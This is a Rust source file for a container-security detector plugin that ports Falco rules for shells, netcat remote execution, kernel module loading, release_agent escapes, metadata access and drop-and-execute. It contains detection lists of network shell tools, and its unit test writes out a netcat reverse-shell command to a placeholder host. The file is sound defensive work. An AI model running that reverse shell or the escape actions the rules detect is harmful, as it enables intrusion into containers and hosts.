//! `falco-container`: the container-only rules of Falco's stable set. Every rule requires the
//! event's process to be in a container (`process.container_id` set); host processes never
//! alert here.
//!
//! | rule id | Falco rule | priority |
//! |---|---|---|
//! | `terminal-shell-in-container` | Terminal shell in container | notice |
//! | `netcat-remote-code-execution-in-container` | Netcat Remote Code Execution in Container | warning |
//! | `packet-socket-created-in-container` | Packet socket created in container | notice |
//! | `redirect-stdio-to-network-in-container` | Redirect STDOUT/STDIN to Network Connection in Container | notice |
//! | `kernel-module-injection-from-container` | Linux Kernel Module Injection Detected | warning |
//! | `debugfs-launched-in-container` | Debugfs Launched in Privileged Container | warning |
//! | `release-agent-container-escape` | Detect release_agent File Container Escapes | critical |
//! | `contact-k8s-api-server-from-container` | Contact K8S API Server From Container | notice |
//! | `drop-and-execute-new-binary-in-container` | Drop and execute new binary in container | critical |
//!
//! Falco's drop-and-execute rule reads the overlayfs upper-layer bit of the executable; Palisade
//! does not capture it, so the rule works by sequence instead: a file created, renamed into
//! place or made executable inside a container, then executed in the same container within a
//! window (host `state`, so it survives reloads).

use std::time::Duration;

use pack_common::{basename, describe_process, is_shell_name, lineage, with_context, SHELLS};
use palisade_sdk::{
    state, Alert, Alerts, Config, Detector, EventData, EventKind, EventRef, ExecData, FdTargetKind,
    NameSet, PathSet, PluginInfo, Priority, Process, Subscription,
};

/// Falco's `container_entrypoint` parents.
const ENTRYPOINTS: &[&str] = &[
    "runc:[0:PARENT]",
    "runc:[1:CHILD]",
    "runc:[2:INIT]",
    "runc",
    "docker-runc",
    "exe",
    "docker-runc-cur",
    "containerd-shim",
    "containerd-shim-runc-v2",
    "systemd",
    "crio",
    "conmon",
];
const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.openbsd", "nc.traditional"];
const DROP_DIRS: &[&str] = &[
    "/tmp/",
    "/var/tmp/",
    "/dev/shm/",
    "/root/",
    "/home/",
    "/usr/local/bin/",
    "/opt/",
    "/app/",
    "/run/",
    "/var/run/",
];
const DROP_ALLOWED_WRITERS: &[&str] = &[
    "dpkg", "apt", "apt-get", "rpm", "dnf", "yum", "apk", "pip", "pip3", "npm", "cargo", "rustc",
    "go", "gcc", "cc1", "ld", "collect2", "make", "link", "compile", "asm", "cc", "clang",
    "ld.lld", "ld.gold", "mold", "javac", "tsc",
];
const K8S_API_ADDRESSES: &[&str] = &["10.96.0.1", "10.43.0.1", "10.100.0.1"];
const K8S_API_PORTS: &[i64] = &[443, 6443];
const CGROUP_PREFIXES: &[&str] = &["/sys/fs/cgroup/", "/mnt/", "/tmp/", "/cgrp", "/cgroup"];

/// Falco incubating `network_tool_binaries`.
const NETWORK_TOOLS: &[&str] = &[
    "nc",
    "ncat",
    "netcat",
    "nmap",
    "dig",
    "tcpdump",
    "tshark",
    "ngrep",
    "telnet",
    "mitmproxy",
    "socat",
    "zmap",
    "masscan",
];
/// Falco incubating `remote_file_copy_binaries` (egress) and the ingress tools.
const REMOTE_COPY: &[&str] = &["rsync", "scp", "sftp", "dcp"];
const INGRESS_COPY: &[&str] = &["curl", "wget"];
const METADATA_ADDRESSES: &[&str] = &["169.254.169.254", "fd00:ec2::254", "100.100.100.200"];

const KNOWN_KEYS: &[&str] = &[
    "network-tools",
    "remote-copy-tools",
    "ingress-copy-tools",
    "tools-allowed",
    "metadata-addresses",
    "metadata-allowed",
    "entrypoint-parents",
    "shell-allowed",
    "netcat-names",
    "packet-socket-allowed",
    "stdio-redirect-allowed",
    "module-load-allowed",
    "drop-dirs",
    "drop-allowed-writers",
    "drop-window-ms",
    "k8s-api-addresses",
    "k8s-api-ports",
    "k8s-api-allowed",
];

/// The detector; see the crate docs.
pub struct FalcoContainer {
    entrypoints: NameSet,
    shell_allowed: NameSet,
    netcats: NameSet,
    packet_allowed: NameSet,
    stdio_allowed: NameSet,
    module_allowed: NameSet,
    drop_dirs: PathSet,
    drop_writers: NameSet,
    drop_window: Duration,
    k8s_addrs: Vec<String>,
    k8s_ports: Vec<u16>,
    k8s_allowed: NameSet,
    network_tools: NameSet,
    remote_copy: NameSet,
    ingress_copy: NameSet,
    tools_allowed: NameSet,
    metadata_addrs: Vec<String>,
    metadata_allowed: NameSet,
}

fn drop_key(container: &str, path: &str) -> String {
    format!("drop:{container}:{path}")
}

fn alert(rule: &str, priority: Priority, message: String, p: &Process, tags: &[&str]) -> Alert {
    with_context(Alert::new(rule, priority, message), p).tags(tags.iter().copied())
}

impl FalcoContainer {
    fn on_exec(&self, exec: &ExecData, p: &Process, container: &str, alerts: &mut Alerts) {
        let name = basename(&exec.filename);
        let shell = is_shell_name(name) || is_shell_name(&p.comm);
        if shell && !self.shell_allowed.matches_process(p) {
            let entry = match p.parent() {
                None => true,
                Some(parent) => self.entrypoints.matches_ancestor(parent),
            };
            // No tty field: an interactive session is a shell without a `-c` script.
            let interactive = !exec.args.iter().skip(1).any(|a| a == "-c");
            if entry && interactive {
                alerts.push(
                    alert(
                        "terminal-shell-in-container",
                        Priority::Notice,
                        format!(
                            "A shell was spawned in a container with an attached terminal: {} (parent {}) in container {container}",
                            describe_process(p),
                            p.parent().map_or("none", |a| a.comm.as_str())
                        ),
                        p,
                        &["T1059", "mitre_execution", "container", "shell"],
                    )
                    .field("shell", name),
                );
            }
        }
        if self.netcats.matches(&p.comm, &exec.filename) {
            let args = &exec.args;
            let ncat = p.comm == "ncat" || name == "ncat";
            let hit = if ncat {
                args.iter().skip(1).any(|a| {
                    matches!(
                        a.as_str(),
                        "--sh-exec" | "--exec" | "-e" | "-c" | "--lua-exec"
                    )
                })
            } else {
                args.iter()
                    .skip(1)
                    .any(|a| a.starts_with("-e") || a.starts_with("-c"))
            };
            if hit {
                alerts.push(alert(
                    "netcat-remote-code-execution-in-container",
                    Priority::Warning,
                    format!(
                        "Netcat runs inside container that allows remote code execution: {}",
                        describe_process(p)
                    ),
                    p,
                    &["T1059", "mitre_execution", "container", "network"],
                ));
            }
        }
        if name == "debugfs" || p.comm == "debugfs" {
            alerts.push(alert(
                "debugfs-launched-in-container",
                Priority::Warning,
                format!(
                    "Debugfs launched in a container (privilege not captured: check it): {}",
                    describe_process(p)
                ),
                p,
                &["T1611", "mitre_privilege_escalation", "container"],
            ));
        }
        if !self.tools_allowed.matches_process(p) {
            let tool_rules: [(&NameSet, &str, &str, &[&str]); 3] = [
                (
                    &self.network_tools,
                    "launch-suspicious-network-tool-in-container",
                    "Suspicious network tool launched in container",
                    &["T1059", "mitre_execution", "container", "network"],
                ),
                (
                    &self.remote_copy,
                    "launch-remote-file-copy-tools-in-container",
                    "Remote file copy tool launched in container",
                    &["T1020", "mitre_exfiltration", "container", "network"],
                ),
                (
                    &self.ingress_copy,
                    "launch-ingress-remote-file-copy-tools-in-container",
                    "Ingress remote file copy tool launched in container",
                    &["T1105", "mitre_command_and_control", "container", "network"],
                ),
            ];
            for (set, rule, what, tags) in tool_rules {
                if set.matches(&p.comm, &exec.filename) {
                    alerts.push(alert(
                        rule,
                        Priority::Notice,
                        format!("{what}: {}", describe_process(p)),
                        p,
                        tags,
                    ));
                }
            }
        }
        let key = drop_key(container, &exec.filename);
        if let Some(writer) = state::get_string(&key) {
            alerts.push(
                alert(
                    "drop-and-execute-new-binary-in-container",
                    Priority::Critical,
                    format!(
                        "Executing binary not part of base image: {} (dropped by {writer}) by {} (lineage {})",
                        exec.filename,
                        describe_process(p),
                        lineage(p)
                    ),
                    p,
                    &["TA0003", "mitre_persistence", "container", "process"],
                )
                .field("filename", &exec.filename)
                .field("dropped_by", writer),
            );
            state::delete(&key);
        }
    }

    fn mark_drop(&self, path: &str, p: &Process, container: &str) {
        if !self.drop_dirs.matches(path) || self.drop_writers.matches_process(p) {
            return;
        }
        let who = format!("{} pid {}", p.comm, p.pid);
        if let Err(e) = state::set_string(&drop_key(container, path), &who, Some(self.drop_window))
        {
            palisade_sdk::warn!("cannot remember dropped file {path}: {e:?}");
        }
    }
}

fn u16_list(config: &Config, key: &str, default: &[i64]) -> Result<Vec<u16>, String> {
    config
        .integer_list_or(key, default)?
        .into_iter()
        .map(|v| u16::try_from(v).map_err(|_| format!("config `{key}`: {v} is not a port")))
        .collect()
}

impl Detector for FalcoContainer {
    fn describe() -> PluginInfo {
        let mut comms: Vec<&str> = SHELLS.to_vec();
        comms.extend(NETCATS);
        comms.push("debugfs");
        comms.extend(NETWORK_TOOLS);
        comms.extend(REMOTE_COPY);
        comms.extend(INGRESS_COPY);
        let ports: Vec<u16> = K8S_API_PORTS
            .iter()
            .map(|p| *p as u16)
            .chain([80])
            .collect();
        PluginInfo::detector(
            "falco-container",
            env!("CARGO_PKG_VERSION"),
            "Falco-parity container rules: terminal shells, netcat RCE, packet sockets, stdio to network, module injection, debugfs, release_agent escapes, k8s API contact, drop-and-execute",
        )
        .subscribe(Subscription::to([EventKind::Exec]).comms(comms))
        .subscribe(Subscription::to([EventKind::Exec, EventKind::FileRename, EventKind::FileChmod]).path_prefixes(DROP_DIRS))
        .subscribe(Subscription::to([EventKind::FileOpen]).path_prefixes(DROP_DIRS).path_prefixes(CGROUP_PREFIXES))
        .subscribe(Subscription::to([EventKind::Socket, EventKind::FdDup, EventKind::ModuleLoad]))
        .subscribe(Subscription::to([EventKind::NetConnect]).ports(ports))
        .config("network-tools", NETWORK_TOOLS)
        .config("remote-copy-tools", REMOTE_COPY)
        .config("ingress-copy-tools", INGRESS_COPY)
        .config("tools-allowed", Vec::<String>::new())
        .config("metadata-addresses", METADATA_ADDRESSES)
        .config("metadata-allowed", Vec::<String>::new())
        .config("entrypoint-parents", ENTRYPOINTS)
        .config("shell-allowed", Vec::<String>::new())
        .config("netcat-names", NETCATS)
        .config("packet-socket-allowed", Vec::<String>::new())
        .config("stdio-redirect-allowed", Vec::<String>::new())
        .config("module-load-allowed", Vec::<String>::new())
        .config("drop-dirs", DROP_DIRS)
        .config("drop-allowed-writers", DROP_ALLOWED_WRITERS)
        .config("drop-window-ms", 3_600_000)
        .config("k8s-api-addresses", K8S_API_ADDRESSES)
        .config("k8s-api-ports", K8S_API_PORTS.to_vec())
        .config("k8s-api-allowed", Vec::<String>::new())
    }

    fn init(config: Config) -> Result<Self, String> {
        config.deny_unknown(KNOWN_KEYS)?;
        Ok(FalcoContainer {
            entrypoints: NameSet::new(config.text_list_or("entrypoint-parents", ENTRYPOINTS)?),
            shell_allowed: NameSet::new(config.text_list_or("shell-allowed", &[])?),
            netcats: NameSet::new(config.text_list_or("netcat-names", NETCATS)?),
            packet_allowed: NameSet::new(config.text_list_or("packet-socket-allowed", &[])?),
            stdio_allowed: NameSet::new(config.text_list_or("stdio-redirect-allowed", &[])?),
            module_allowed: NameSet::new(config.text_list_or("module-load-allowed", &[])?),
            drop_dirs: PathSet::new(config.text_list_or("drop-dirs", DROP_DIRS)?),
            drop_writers: NameSet::new(
                config.text_list_or("drop-allowed-writers", DROP_ALLOWED_WRITERS)?,
            ),
            drop_window: Duration::from_millis(
                config.unsigned_or("drop-window-ms", 3_600_000)?.max(1),
            ),
            k8s_addrs: config.text_list_or("k8s-api-addresses", K8S_API_ADDRESSES)?,
            k8s_ports: u16_list(&config, "k8s-api-ports", K8S_API_PORTS)?,
            k8s_allowed: NameSet::new(config.text_list_or("k8s-api-allowed", &[])?),
            network_tools: NameSet::new(config.text_list_or("network-tools", NETWORK_TOOLS)?),
            remote_copy: NameSet::new(config.text_list_or("remote-copy-tools", REMOTE_COPY)?),
            ingress_copy: NameSet::new(config.text_list_or("ingress-copy-tools", INGRESS_COPY)?),
            tools_allowed: NameSet::new(config.text_list_or("tools-allowed", &[])?),
            metadata_addrs: config.text_list_or("metadata-addresses", METADATA_ADDRESSES)?,
            metadata_allowed: NameSet::new(config.text_list_or("metadata-allowed", &[])?),
        })
    }

    fn on_event(&mut self, event: EventRef<'_>, alerts: &mut Alerts) {
        let p = event.process;
        let Some(container) = p.container_id.as_deref() else {
            return;
        };
        match event.data {
            EventData::Exec(exec) => self.on_exec(exec, p, container, alerts),
            EventData::FileOpen(open) => {
                if open.is_write() && basename(&open.path) == "release_agent" {
                    alerts.push(
                        alert(
                            "release-agent-container-escape",
                            Priority::Critical,
                            format!("Attempt to exploit a container escape using release_agent file {} by {}", open.path, describe_process(p)),
                            p,
                            &["T1611", "mitre_privilege_escalation", "container"],
                        )
                        .field("path", &open.path),
                    );
                }
                if open.open_flags & palisade_sdk::open_flags::O_CREAT != 0
                    && open.result.is_none_or(|r| r >= 0)
                {
                    self.mark_drop(&open.path, p, container);
                }
            }
            EventData::FileRename(r) => self.mark_drop(&r.to, p, container),
            EventData::FileChmod(c) if c.mode & 0o111 != 0 => self.mark_drop(&c.path, p, container),
            EventData::Socket(s) if s.family == 17 && !self.packet_allowed.matches_process(p) => {
                alerts.push(
                    alert(
                        "packet-socket-created-in-container",
                        Priority::Notice,
                        format!(
                            "Packet socket was created in a container (type {}, protocol {}) by {}",
                            s.socket_type,
                            s.protocol,
                            describe_process(p)
                        ),
                        p,
                        &[
                            "T1557.002",
                            "mitre_credential_access",
                            "container",
                            "network",
                        ],
                    )
                    .field("socket.type", s.socket_type),
                );
            }
            EventData::FdDup(d)
                if d.newfd <= 2
                    && d.target_kind == FdTargetKind::Socket
                    && !self.stdio_allowed.matches_process(p) =>
            {
                alerts.push(
                    alert(
                        "redirect-stdio-to-network-in-container",
                        Priority::Notice,
                        format!(
                            "Redirect stdout/stdin to network connection (fd {} -> {}) by {}",
                            d.oldfd,
                            d.newfd,
                            describe_process(p)
                        ),
                        p,
                        &["T1059", "mitre_execution", "container", "network"],
                    )
                    .field("fd.new", d.newfd),
                );
            }
            EventData::ModuleLoad(module) if !self.module_allowed.matches_process(p) => {
                alerts.push(
                    alert(
                        "kernel-module-injection-from-container",
                        Priority::Warning,
                        format!(
                            "Linux kernel module injection from container: module {module} by {}",
                            describe_process(p)
                        ),
                        p,
                        &["TA0003", "mitre_persistence", "container", "process"],
                    )
                    .field("module", module),
                );
            }
            EventData::NetConnect(c)
                if self.metadata_addrs.contains(&c.daddr)
                    && !self.metadata_allowed.matches_process(p) =>
            {
                alerts.push(
                    alert(
                        "contact-cloud-metadata-service-from-container",
                        Priority::Notice,
                        format!("Outbound connection to cloud instance metadata service {}:{} from container by {}", c.daddr, c.dport, describe_process(p)),
                        p,
                        &["T1565", "mitre_discovery", "container", "network"],
                    )
                    .field("connection", format!("{}:{} -> {}:{}", c.saddr, c.sport, c.daddr, c.dport)),
                );
            }
            EventData::NetConnect(c)
                if self.k8s_ports.contains(&c.dport)
                    && self.k8s_addrs.contains(&c.daddr)
                    && !self.k8s_allowed.matches_process(p) =>
            {
                alerts.push(
                    alert(
                        "contact-k8s-api-server-from-container",
                        Priority::Notice,
                        format!(
                            "Unexpected connection to K8s API server {}:{} from container by {}",
                            c.daddr,
                            c.dport,
                            describe_process(p)
                        ),
                        p,
                        &["T1565", "mitre_discovery", "container", "network", "k8s"],
                    )
                    .field(
                        "connection",
                        format!("{}:{} -> {}:{}", c.saddr, c.sport, c.daddr, c.dport),
                    ),
                );
            }
            _ => {}
        }
    }
}

palisade_sdk::export_detector!(FalcoContainer);

#[cfg(test)]
mod tests {
    use super::*;
    use palisade_sdk::{
        run_batch, testing, ConnectionData, EventBatch, FdDupData, FileChmodData, FileOpenData,
        SocketData,
    };

    const C: &str = "3f1c2a9b8e7d";

    fn exec(filename: &str, args: &[&str]) -> EventData {
        EventData::Exec(ExecData {
            filename: filename.into(),
            args: args.iter().map(|s| s.to_string()).collect(),
            args_truncated: false,
        })
    }

    fn rules(events: &[(&Process, EventData)]) -> Vec<(String, u32)> {
        testing::reset();
        let mut d =
            FalcoContainer::init(Config::new(FalcoContainer::describe().default_config)).unwrap();
        let mut b = EventBatch::new();
        for (i, (p, e)) in events.iter().enumerate() {
            b.push(p, i as u64, e.clone());
        }
        run_batch(&mut d, &b)
            .into_iter()
            .map(|a| (a.rule, a.event_index))
            .collect()
    }

    #[test]
    fn container_rules_fire_in_containers_only() {
        let sh = Process::new(5, "bash", "/bin/bash")
            .with_container(C)
            .with_ancestor(4, "containerd-shim", "/usr/bin/containerd-shim-runc-v2");
        let host_sh = Process::new(15, "bash", "/bin/bash").with_ancestor(
            4,
            "containerd-shim",
            "/usr/bin/containerd-shim-runc-v2",
        );
        let nc = Process::new(6, "nc", "/usr/bin/nc").with_container(C);
        let w = Process::new(7, "curl", "/usr/bin/curl").with_container(C);
        let x = Process::new(8, "x", "/tmp/x").with_container(C);
        let got = rules(&[
            (&sh, exec("/bin/bash", &["bash"])),
            (&host_sh, exec("/bin/bash", &["bash"])),
            (&sh, exec("/bin/bash", &["bash", "-c", "true"])),
            (
                &nc,
                exec(
                    "/usr/bin/nc",
                    &["nc", "-e", "/bin/sh", "203.0.113.5", "4444"],
                ),
            ),
            (
                &nc,
                EventData::Socket(SocketData {
                    family: 17,
                    socket_type: 3,
                    protocol: 768,
                }),
            ),
            (
                &nc,
                EventData::FdDup(FdDupData {
                    oldfd: 3,
                    newfd: 0,
                    target_kind: FdTargetKind::Socket,
                }),
            ),
            (&nc, EventData::ModuleLoad("evil".into())),
            (
                &w,
                EventData::FileOpen(FileOpenData {
                    path: "/tmp/x".into(),
                    open_flags: 0o101,
                    mode: 0o755,
                    result: Some(3),
                }),
            ),
            (
                &w,
                EventData::FileChmod(FileChmodData {
                    path: "/tmp/x".into(),
                    mode: 0o755,
                }),
            ),
            (&x, exec("/tmp/x", &["/tmp/x"])),
            (&x, exec("/tmp/x", &["/tmp/x"])),
            (
                &w,
                EventData::FileOpen(FileOpenData {
                    path: "/sys/fs/cgroup/x/release_agent".into(),
                    open_flags: 1,
                    mode: 0,
                    result: Some(3),
                }),
            ),
            (
                &w,
                EventData::NetConnect(ConnectionData {
                    family: 2,
                    protocol: 6,
                    saddr: "10.1.0.5".into(),
                    sport: 40000,
                    daddr: "10.96.0.1".into(),
                    dport: 443,
                }),
            ),
        ]);
        let got: Vec<(&str, u32)> = got.iter().map(|(r, i)| (r.as_str(), *i)).collect();
        assert_eq!(
            got,
            [
                ("terminal-shell-in-container", 0),
                ("netcat-remote-code-execution-in-container", 3),
                ("launch-suspicious-network-tool-in-container", 3),
                ("packet-socket-created-in-container", 4),
                ("redirect-stdio-to-network-in-container", 5),
                ("kernel-module-injection-from-container", 6),
                ("drop-and-execute-new-binary-in-container", 9),
                ("release-agent-container-escape", 11),
                ("contact-k8s-api-server-from-container", 12),
            ]
        );
    }
}
